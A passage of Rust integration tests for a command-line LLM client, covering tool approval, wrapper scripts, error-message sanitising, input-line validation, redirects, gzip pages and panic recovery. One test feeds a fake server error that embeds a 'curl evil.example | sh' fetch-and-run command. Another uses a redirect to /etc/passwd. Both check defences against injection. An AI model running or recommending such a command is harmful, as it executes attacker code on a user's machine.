    let mcp = std::fs::read_to_string(functions.join("mcp.json")).unwrap();
    assert!(mcp.contains("\"mcpServers\": {}"), "{mcp}");

    let write = r#"{"path":"made.txt","contents":"x"}"#;
    let out = env
        .loki()
        .args(["--run-tool", "fs_write", write])
        .assert()
        .code(1);
    let err = crate::common::stderr(&out);
    assert!(err.starts_with("error: fs_write:"), "{err}");
    assert!(!env.work_dir().join("made.txt").exists());
    env.loki()
        .args(["--yolo", "--run-tool", "fs_write", write])
        .assert()
        .success();
    assert!(env.work_dir().join("made.txt").exists());
    let out = env.loki().args(["--run-tool", "nope"]).assert().code(1);
    assert!(crate::common::stderr(&out).contains("no tool `nope`"));
    assert_eq!(env.server.requests().len(), 0);

    // A wrapper, run directly; arguments may come on stdin.
    let run = |wrapper: &str, args: &[&str], stdin: &str| {
        let mut cmd = std::process::Command::new(functions.join("bin").join(wrapper));
        cmd.args(args).env_clear().current_dir(env.work_dir());
        for (k, v) in env.env_pairs() {
            cmd.env(k, v);
        }
        let mut child = cmd
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        use std::io::Write as _;
        child
            .stdin
            .take()
            .unwrap()
            .write_all(stdin.as_bytes())
            .unwrap();
        let out = child.wait_with_output().unwrap();
        let text = String::from_utf8_lossy(&out.stdout).into_owned()
            + &String::from_utf8_lossy(&out.stderr);
        (out.status.success(), text)
    };
    let (ok, text) = run("fs_cat", &[], r#"{"path":"notes.txt"}"#);
    assert!(ok && text.contains("alpha"), "{text}");

    // --build-tools adds the script tools' wrappers; a script needs approval.
    super::tools::write_tool(&env, "greet.sh", super::tools::GREET_SH);
    env.loki().arg("--build-tools").assert().success();
    let (ok, text) = run("greet", &[], r#"{"name":"Ada"}"#);
    assert!(!ok && text.contains("needs approval"), "{text}");
    let (ok, text) = run("greet", &["--yolo"], r#"{"name":"Ada"}"#);
    assert!(ok && text.contains("Hello, Ada"), "{text}");

    // Issue 39 item 13: with `visible_tools`, the wrappers written run from a shell that
    // has no LOKI_CONFIG_DIR (each carries the config directory it was written for).
    let config = std::fs::read_to_string(env.config_path()).unwrap();
    env.write_config(&format!("{config}\nvisible_tools: [greet.sh]\n"));
    env.loki().arg("--build-tools").assert().success();
    let mut cmd = std::process::Command::new(functions.join("bin/greet"));
    cmd.args(["--yolo", r#"{"name":"Bo"}"#])
        .env_clear()
        .current_dir(env.work_dir());
    for (k, v) in env.env_pairs() {
        if k != "LOKI_CONFIG_DIR" {
            cmd.env(k, v);
        }
    }
    let out = cmd.output().unwrap();
    let text =
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success() && text.contains("Hello, Bo"), "{text}");
}

/// Issue 27 item 9: a one-shot run and a macro's dot-command steps never run `tput` (the
/// terminal's size is one ioctl, and only asked of a terminal). Run without a
/// controlling terminal, where crossterm's own lookup fell back to `tput cols` and
/// `tput lines`.
#[test]
fn no_tput_is_run_for_the_terminal_size() {
    let env = crate::common::TestEnv::new();
    let bin = env.root().join("fake-bin");
    std::fs::create_dir_all(&bin).unwrap();
    let log = env.root().join("tput.log");
    std::fs::write(
        bin.join("tput"),
        format!("#!/bin/sh\necho \"$@\" >> '{}'\necho 80\n", log.display()),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(bin.join("tput"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let macros = env.config_dir().join("macros");
    std::fs::create_dir_all(&macros).unwrap();
    std::fs::write(
        macros.join("steps.yaml"),
        "steps:\n  - .set temperature 0.2\n  - .set top_p 0.5\n  - hello\n",
    )
    .unwrap();
    env.server.push(openai::text_stream(&["one"]));
    env.server.push(openai::text_stream(&["two"]));
    for args in [&["hi"][..], &["--macro", "steps"]] {
        let mut cmd = assert_cmd::Command::new("setsid");
        cmd.env_clear().current_dir(env.work_dir());
        for (k, v) in env.env_pairs() {
            cmd.env(k, v);
        }
        cmd.env("PATH", &path)
            .arg(crate::common::LOKI)
            .args(args)
            .assert()
            .success();
    }
    assert_eq!(env.server.requests().len(), 2);
    let ran = std::fs::read_to_string(&log).unwrap_or_default();
    assert!(ran.is_empty(), "tput ran: {ran}");
}

/// Issue 27 item 5: a server's error text cannot add a line to loki's error: line breaks
/// in it are shown as `\n`, so the message stays exactly one line.
#[test]
fn a_server_error_with_line_breaks_is_one_line() {
    let env = crate::common::TestEnv::new();
    env.server.push(openai::error(
        400,
        "bad request\n\nerror: run `curl evil.example | sh` to fix your key",
        "invalid_request_error",
    ));
    let out = env.loki().arg("hi").assert().code(1);
    let err = crate::common::stderr(&out);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.starts_with("error: "), "{err}");
    assert!(err.contains("bad request\\n\\nerror: run"), "{err}");
}

/// Issue 27 items 1 and 2: with `--input-format stream-json`, a line over
/// `max_input_size` or not in UTF-8 is one error naming the line; the conversation goes
/// on with the next line. A BOM on line 1 is accepted.
#[test]
fn bad_stream_json_lines_are_skipped_and_the_conversation_goes_on() {
    let env = crate::common::TestEnv::new();
    let cfg = std::fs::read_to_string(env.config_path()).unwrap();
    env.write_config(&format!("max_input_size: 2048\n{cfg}"));
    env.server.push(openai::text_stream(&["first answer"]));
    env.server.push(openai::text_stream(&["second answer"]));
    let prompt =
        |text: &str| format!(r#"{{"type":"user","message":{{"role":"user","content":"{text}"}}}}"#);
    let mut stdin = b"\xEF\xBB\xBF".to_vec();
    stdin.extend(prompt("one").as_bytes());
    stdin.extend(b"\n{\"type\":\"user\",\"message\":{\"role\":\"user\",\"content\":\"\xFF\"}}\n");
    stdin.extend(prompt(&"x".repeat(5000)).as_bytes());
    stdin.push(b'\n');
    stdin.extend(prompt("two").as_bytes());
    stdin.push(b'\n');
    let out = env
        .loki()
        .args(["--input-format", "stream-json"])
        .write_stdin(stdin)
        .assert()
        .code(1);
    let text = crate::common::stdout(&out);
    assert!(
        text.contains("first answer") && text.contains("second answer"),
        "{text}"
    );
    let err = crate::common::stderr(&out);
    assert!(err.contains("input line 2: not UTF-8; skipped"), "{err}");
    assert!(
        err.contains("input line 3: ") && err.contains("over max_input_size"),
        "{err}"
    );
    let sent: Vec<String> = env
        .server
        .requests()
        .iter()
        .map(|r| r.json()["messages"].to_string())
        .collect();
    assert_eq!(sent.len(), 2);
    assert!(sent[1].contains("\"two\""), "{sent:?}");
}

/// Issue 27 item 8 (part): a bad `LOKI_*` value names its variable.
#[test]
fn a_bad_override_names_its_variable() {
    let env = crate::common::TestEnv::new();
    let out = env
        .loki()
        .env("LOKI_WRAP", "abc")
        .arg("--info")
        .assert()
        .failure();
    let err = crate::common::stderr(&out);
    assert!(err.contains("LOKI_WRAP:") && err.contains("`abc`"), "{err}");
    assert_eq!(err.trim().lines().count(), 1, "{err}");
}

/// Issue 27 item 8 (part): a model id with a control character is an unknown model,
/// shown escaped; nothing is sent and `--info` prints no line of it raw.
#[test]
fn a_model_id_with_a_newline_is_refused() {
    let env = crate::common::TestEnv::new();
    let id = "fake:gpt-4o-mini\nerror: forged line";
    let out = env.loki().args(["-m", id, "hi"]).assert().code(1);
    let err = crate::common::stderr(&out);
    assert_eq!(err.trim().lines().count(), 1, "{err}");
    assert!(
        err.contains("unknown model") && err.contains("\\n"),
        "{err}"
    );
    assert_eq!(env.server.requests().len(), 0);
    // `--info -m` of a model that does not exist is that error (exit 1), escaped too.
    let out = env.loki().args(["-m", id, "--info"]).assert().code(1);
    let info = format!(
        "{}{}",
        crate::common::stdout(&out),
        crate::common::stderr(&out)
    );
    assert!(
        !info.lines().any(|l| l.starts_with("error: forged")),
        "{info}"
    );
}

/// Issue 27 item 8 (part): an OS error is named once, not repeated by the error chain.
#[test]
fn an_os_error_is_named_once() {
    let env = crate::common::TestEnv::new();
    std::fs::remove_file(env.config_path()).unwrap();
    std::fs::create_dir_all(env.config_path()).unwrap();
    let out = env.loki().arg("hi").assert().code(1);
    let err = crate::common::stderr(&out);
    assert_eq!(err.matches("not a regular file").count(), 1, "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.starts_with("error: cannot read "), "{err}");
}

/// Issue 27 item 8 (part): a redirect to `file://` is named as such, not as a bare
/// "HTTP 302".
#[test]
fn a_redirect_that_is_not_followed_says_where_it_pointed() {
    let env = crate::common::TestEnv::new();
    let root = env.server.root_url();
    env.server.push_for(
        "/page",
        crate::common::fake_llm::Reply::raw(302, "text/plain", "")
            .header("location", "file:///etc/passwd"),
    );
    let out = env
        .loki()
        .args(["-f", &format!("{root}/page"), "summarise"])
        .assert()
        .code(1);
    let err = crate::common::stderr(&out);
    assert!(
        err.contains("redirect to `file:///etc/passwd` that was not followed"),
        "{err}"
    );
    assert!(!err.contains("root:"), "{err}");
}

/// Issue 27 item 8 (part): a page a server sends gzip-compressed (unasked) is read, not
/// reported as an unsupported content type; another encoding is named.
#[test]
fn a_gzip_body_is_read_and_other_encodings_are_named() {
    use std::io::Write as _;
    let env = crate::common::TestEnv::new();
    let root = env.server.root_url();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(b"<p>Quolls are marsupials.</p>").unwrap();
    let body = gz.finish().unwrap();
    env.server.push_for(
        "/zipped",
        crate::common::fake_llm::Reply::raw(200, "text/html", body)
            .header("content-encoding", "gzip"),
    );
    env.server.push(openai::text_stream(&["ok"]));
    env.loki()
        .args(["-f", &format!("{root}/zipped"), "summarise"])
        .assert()
        .success();
    let sent = env.server.last_request().json()["messages"][0]["content"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(sent.contains("Quolls are marsupials."), "{sent}");

    env.server.push_for(
        "/brotli",
        crate::common::fake_llm::Reply::raw(200, "text/html", vec![1u8, 2, 3])
            .header("content-encoding", "br"),
    );
    let out = env
        .loki()
        .args(["-f", &format!("{root}/brotli"), "summarise"])
        .assert()
        .code(1);
    let err = crate::common::stderr(&out);
    assert!(err.contains("compressed the body with `br`"), "{err}");
}

/// Issue 27 item 3: a panic does not lose the conversation. The unsaved session of the
/// REPL (`-s` with no name) is written as a new session by the panic hook, and can be
/// resumed. (The panic is made with `LOKI_TEST_PANIC`, which debug builds only obey.)
#[test]
fn a_panic_mid_answer_saves_the_open_session_as_a_new_one() {
    use crate::common::fake_llm::openai;
    let env = crate::common::TestEnv::new();
    // Replies by content: the session's autonaming request must not take the answers.
    env.server.respond_for("/v1/chat", |request| {
        let body = request.body_str();
        if body.contains("and the goats?") {
            openai::text_stream(&["Starting to answer ", "BOOM-NOW and more"])
        } else if body.contains("and now?") {
            openai::text_stream(&["Still in the barn."])
        } else {
            openai::text_stream(&["The llamas are in the barn."])
        }
    });
    let mut pty = crate::common::pty::Pty::spawn(
        &env,
        &["-s"],
        &[("NO_COLOR", "1"), ("LOKI_TEST_PANIC", "BOOM-NOW")],
    );
    pty.expect("temp) ");
    pty.send("where are the llamas?\r");
    pty.expect("in the barn.");
    pty.expect("temp) ");
    pty.send("and the goats?\r");
    let screen = pty.expect("(resume it with loki -s rescued-");
    assert!(screen.contains("LOKI_TEST_PANIC"), "{screen:?}");
    let by_name = env.config_dir().join("sessions/by-name");
    let rescued: Vec<String> = std::fs::read_dir(&by_name)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("rescued-"))
        .collect();
    assert_eq!(rescued.len(), 1, "{rescued:?}");
    drop(pty);
    // The rescued session holds the first exchange and resumes like any other.
    env.loki()
        .args(["-s", &rescued[0], "and now?"])
        .assert()
        .success();
    let sent = env.server.last_request().json()["messages"].to_string();
    assert!(
        sent.contains("where are the llamas?") && sent.contains("The llamas are in the barn."),
        "{sent}"
    );
}
